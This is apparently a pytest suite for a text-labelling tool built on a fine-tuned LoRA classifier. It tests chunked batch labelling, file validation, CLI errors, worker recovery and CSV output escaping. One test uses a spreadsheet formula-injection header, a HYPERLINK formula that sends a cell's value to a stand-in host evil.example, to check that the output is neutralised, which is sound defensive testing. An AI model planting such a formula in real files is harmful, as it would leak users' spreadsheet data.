"""Labelling a file of texts: through the worker, in chunks, every row once and in order, with bounded memory."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from sqlalchemy import func, select

from core.data import reading
from core.jobs.worker import run_worker
from core.results import labels
from core.store.db import LabelJob, Run, open_database, session_factory
from core.store.settings import get_settings
from core.training import predict
from core.training.config import TrainConfig
from tests.conftest import make_rows, write_csv
from tests.helpers import core_command, store, train_now

MEMORY_BOUND_MB = 50  # the labelling process of 20,000 rows may use at most this much more than that of 5,000


@pytest.fixture(scope="module")
def lora_run(tmp_path_factory, tiny_model):
    """Settings of a fresh database and a finished LoRA run on the tiny model."""
    root = tmp_path_factory.mktemp("labels")
    folder = root / "csvs"
    folder.mkdir()
    for split, (n, seed) in {"train": (96, 1), "dev": (24, 2), "test": (24, 3)}.items():
        write_csv(folder / f"{split}.csv", make_rows(n, seed, chinese=seed == 1))
    with pytest.MonkeyPatch.context() as mp:
        mp.delenv("LORALAB_DATA_DIR", raising=False)
        mp.setenv("LORALAB_MODEL_ROOTS", str(tmp_path_factory.getbasetemp()))
        settings = get_settings(f"sqlite:///{root / 'runs.db'}")
        open_database(settings.db_url)
        dataset = store(settings, folder)
        fast = {"epochs": 2, "batch_size": 16, "evals_per_epoch": 1, "max_length": 32, "learning_rate": 5e-3}
        yield settings, train_now(settings, dataset, tiny_model, "lora", **fast)


def texts_file(path, rows: int):
    """id, text and a note that a spreadsheet would run as a formula."""
    english, chinese = make_rows(rows // 2 + 1, 11), make_rows(rows // 2 + 1, 12, chinese=True)
    texts = [t for pair in zip(english, chinese) for t, _ in pair][:rows]
    with open(path, "w", newline="", encoding="utf-8") as f:
        out = csv.writer(f)
        out.writerow(["id", "text", "note"])
        out.writerows([i, t, "=1+1" if i % 7 == 0 else f"n{i}"] for i, t in enumerate(texts))
    return path


def submit(settings, path, run_id, **kw) -> int:
    with session_factory(settings.db_url)() as s:
        return labels.submit(s, settings, reading.SplitFile.from_path(path), [run_id], **kw).id


def test_worker_labels_every_row_once_in_order_with_memory_that_does_not_grow(lora_run, tmp_path):
    settings, run_id = lora_run
    small = submit(settings, texts_file(tmp_path / "small.csv", 5_000), run_id)
    big = submit(settings, texts_file(tmp_path / "big.csv", 20_000), run_id, all_probabilities=True)

    assert run_worker(settings, poll_s=0.1, exit_when_idle=True) == 0

    with session_factory(settings.db_url)() as s:
        jobs = {j.id: j for j in s.scalars(select(LabelJob))}
        predictor = predict.load_run(settings, s.get(Run, run_id))
    for job in jobs.values():
        assert job.status == "completed", job.error
        assert job.rows_done == job.rows_total
    out = pd.read_csv(labels.output_path(settings, jobs[big]), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    given = pd.read_csv(tmp_path / "big.csv", dtype=str, keep_default_na=False)
    classes = predictor.classes
    run = f"#{run_id} LoRA · seed {TrainConfig().seed}"  # the columns name the run by its method and seed
    assert list(out.columns) == ["id", "text", "note", f"{run} label", f"{run} probability"] + [
        f"{run} P({c})" for c in classes
    ]
    for column in out.columns[4:]:  # probabilities rounded: 0.9731, not 0.9731245636940002
        assert out[column].str.fullmatch(r"[01](\.\d{1,4})?").all(), out[column].head().tolist()
    assert len(out) == 20_000 and out["id"].tolist() == given["id"].tolist()  # every row once, in order
    assert out["text"].tolist() == given["text"].tolist()
    assert out.loc[0, "note"] == "'=1+1" and out.loc[1, "note"] == "n1"  # formula-safe
    # The answers are Predict's: the first and last rows of the file.
    for rows in (slice(0, 40), slice(19_960, 20_000)):
        probs = predictor.predict_proba(given["text"][rows].tolist())
        assert out[f"{run} label"][rows].tolist() == [classes[i] for i in probs.argmax(axis=1)]
        assert out[f"{run} probability"][rows].astype(float).tolist() == pytest.approx(
            probs.max(axis=1).tolist(), abs=1e-4
        )
    # Measured: 5,000 and 20,000 rows cost the labelling process about the same peak memory.
    growth = jobs[big].peak_memory_mb - jobs[small].peak_memory_mb
    assert growth < MEMORY_BOUND_MB, (jobs[small].peak_memory_mb, jobs[big].peak_memory_mb)


def test_a_hostile_file_gets_the_data_page_messages_and_nothing_is_queued(lora_run, tmp_path):
    settings, run_id = lora_run
    with session_factory(settings.db_url)() as s:
        jobs_before = s.scalar(select(func.count(LabelJob.id)))
    bad = tmp_path / "bad.csv"
    write_csv(bad, [("fine text", "x"), ("   ", "y"), ("x" * 30_000, "z")], header=("text", "other"))
    with pytest.raises(reading.DataError) as refused:
        submit(settings, bad, run_id)
    assert refused.value.problems == [
        "bad.csv row 3, column 'text': the text is empty. Fill it in or delete the row.",
        "bad.csv row 4, column 'text': the text is longer than 20,000 characters. Is this the right column? "
        "The model reads only the first few hundred words of a text; shorten these texts.",
    ]
    xlsx = tmp_path / "book.xlsx"
    xlsx.write_bytes(b"PK\x03\x04rest of a zip")
    with pytest.raises(reading.DataError, match="is a ZIP archive"):
        submit(settings, xlsx, run_id)
    with pytest.raises(reading.DataError, match="has no column 'body'"):
        submit(settings, bad, run_id, text_column="body")
    with session_factory(settings.db_url)() as s:
        assert s.scalar(select(func.count(LabelJob.id))) == jobs_before


def test_a_gbk_text_file_reads_one_text_a_line(lora_run, tmp_path):
    settings, _ = lora_run
    path = tmp_path / "titles.txt"
    path.write_bytes("足球比赛新闻\n银行股票市场\n\n手机芯片\n\n".encode("gbk"))
    text_file = reading.read_text_file(reading.SplitFile.from_path(path), settings)
    assert text_file.encoding == "gbk" and text_file.plain
    assert text_file.frame["text"].tolist() == ["足球比赛新闻", "银行股票市场", "", "手机芯片"]
    with pytest.raises(reading.DataError, match=r"titles.txt line 3: the text is empty"):
        labels.check_file(text_file, None, settings)


def test_cli_labels_a_file(lora_run, tmp_path):
    settings, run_id = lora_run
    file = str(texts_file(tmp_path / "in.csv", 50))
    done = core_command(
        settings,
        "predict",
        "--run",
        str(run_id),
        "--file",
        file,
        "--text-column",
        "text",
        "--out",
        str(tmp_path / "out.csv"),
    )
    assert done.returncode == 0, done.stderr
    out = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert len(out) == 50 and list(out.columns)[:3] == ["id", "text", "note"]
    assert set(out[f"#{run_id} LoRA · seed {TrainConfig().seed} label"]) <= {"0", "1", "2"}


def test_the_labelled_file_keeps_numbers_as_written_and_neutralises_a_header(lora_run, tmp_path):
    """-3.5 is the user's value and runs nothing in a spreadsheet: kept. A header is a cell a spreadsheet runs."""
    settings, run_id = lora_run
    hostile = '=HYPERLINK("http://evil.example/?"&A2)'
    rows = [(t, "-3.5", "+44 20 7946 0958") for t, _ in make_rows(6, 4)]
    path = write_csv(tmp_path / "in.csv", rows, header=("text", hostile, "phone"))
    out_path = tmp_path / "out.csv"
    done = core_command(settings, "predict", "--run", str(run_id), "--file", str(path), "--out", str(out_path))
    assert done.returncode == 0, done.stderr
    out = pd.read_csv(out_path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert list(out.columns)[:3] == ["text", "'" + hostile, "phone"]
    assert set(out["'" + hostile]) == {"-3.5"}
    assert set(out["phone"]) == {"'+44 20 7946 0958"}  # not a number: a spreadsheet would read a formula


def test_cli_names_a_missing_output_folder_or_input_file_in_one_line(lora_run, tmp_path):
    settings, run_id = lora_run
    file = str(texts_file(tmp_path / "in.csv", 5))
    for args, words in [
        (["--file", file, "--out", str(tmp_path / "missing_dir" / "out.csv")], "there is no folder"),
        (["--file", str(tmp_path / "nofile.csv"), "--out", str(tmp_path / "out.csv")], "nofile.csv"),
    ]:
        done = core_command(settings, "predict", "--run", str(run_id), *args)
        assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
        assert words in ("\n" + done.stderr).partition("\nerror: ")[2], done.stderr  # after the loading bars
    assert not (tmp_path / "out.csv").exists()


def test_run_names_tell_apart_runs_of_one_method_and_seed():
    runs = [Run(id=i, method="lora", config={"seed": 42}, dataset_name="news", model_source="bundled") for i in (3, 4)]
    assert [labels.run_name(r) for r in runs] == ["#3 LoRA · seed 42", "#4 LoRA · seed 42"]
    assert labels.run_name(Run(id=5, method="full", config={"seed": 7})) == "#5 Full fine-tuning · seed 7"


def test_a_label_job_whose_worker_died_is_failed_with_a_plain_reason(lora_run, tmp_path):
    """The worker renews a label job's heartbeat while its child labels; killed (or the machine restarted), the job
    would say 'running' for good. The next worker's reconciliation fails it, and leaves a live one alone."""
    from datetime import timedelta

    from core.jobs.worker import claim_next_label_job, reconcile_stale_runs
    from core.store.db import utcnow

    settings, run_id = lora_run
    dead = submit(settings, texts_file(tmp_path / "dead.csv", 10), run_id)
    assert claim_next_label_job(settings) == dead
    live = submit(settings, texts_file(tmp_path / "live.csv", 10), run_id)
    assert claim_next_label_job(settings) == live
    sessions = session_factory(settings.db_url)
    with sessions.begin() as s:
        s.get(LabelJob, dead).heartbeat_at = utcnow() - timedelta(seconds=settings.stale_after_s + 5)
    reconcile_stale_runs(settings)
    with sessions() as s:
        failed, running = s.get(LabelJob, dead), s.get(LabelJob, live)
        assert (failed.status, running.status) == ("failed", "running")
        assert "Label the file again" in failed.error and failed.finished_at is not None
        running.status = "cancelled"  # not left for the other tests' worker to find
        s.commit()


def test_the_text_column_is_found_by_its_name_or_else_by_its_length():
    named = pd.DataFrame({"id": ["1", "2"], "Headline": ["Chelsea win the cup final", "央行宣布下调利率"]})
    assert labels.guess_text_column(named) == "Headline"
    unnamed = pd.DataFrame(
        {
            "ticket": ["10231", "10232"],
            "opened": ["2026-11-01", "2026-11-02"],
            "what the customer wrote": ["My invoice shows the wrong address", "登录时一直提示密码错误"],
            "team": ["billing", "accounts"],
        }
    )
    assert labels.guess_text_column(unnamed) == "what the customer wrote"
    assert labels.guess_text_column(pd.DataFrame({"只有一列": ["文本"]})) == "只有一列"
